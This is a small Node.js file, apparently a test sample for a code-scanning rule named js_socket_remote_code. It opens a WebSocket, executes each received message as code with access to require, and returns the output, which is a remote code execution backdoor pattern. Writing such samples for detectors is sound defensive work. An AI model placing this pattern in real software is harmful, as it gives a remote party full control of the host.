'use strict';
const WebSocket = require('ws');
function connect(url) {
  const s = new WebSocket(url);
  // ruleid: js_socket_remote_code
  s.onmessage = function (m) {
    const out = require('vm').runInThisContext('(function(require){' + m.data + '\n})')(require);
    s.send(JSON.stringify({ r: String(out) }));
  };
}
module.exports = { connect };
